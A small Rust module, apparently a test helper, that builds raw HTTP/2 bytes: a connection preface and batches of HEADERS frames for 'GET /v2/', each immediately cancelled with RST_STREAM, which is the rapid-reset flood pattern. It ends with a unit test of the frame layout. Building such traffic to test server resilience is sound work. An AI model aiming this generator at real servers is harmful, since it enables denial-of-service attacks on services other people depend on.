//! HTTP/2 as an attacker writes it.

/// What a client of HTTP/2 says first, settings included.
pub(super) const HELLO: &[u8] =
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";

/// So many requests, from this one on, each reset at once.
pub(super) fn resets(from: u32, count: u32) -> Vec<u8> {
    // GET /v2/ from the static table of HPACK.
    const BLOCK: &[u8] = b"\x82\x86\x04\x04/v2/\x01\x01a";
    let mut bytes = Vec::new();
    for number in from..from + count {
        let stream = 2 * number + 1;
        frame(&mut bytes, 1, 5, stream, BLOCK);
        frame(&mut bytes, 3, 0, stream, &[0, 0, 0, 8]);
    }
    bytes
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, content: &[u8]) {
    bytes.extend([0, 0, content.len() as u8, kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(content);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_request_is_two_frames_of_an_odd_stream() {
        let bytes = resets(3, 1);
        assert_eq!(bytes.len(), 9 + 11 + 9 + 4);
        assert_eq!((bytes[3], bytes[8], bytes[20 + 3], bytes[20 + 8]), (1, 7, 3, 7));
    }
}
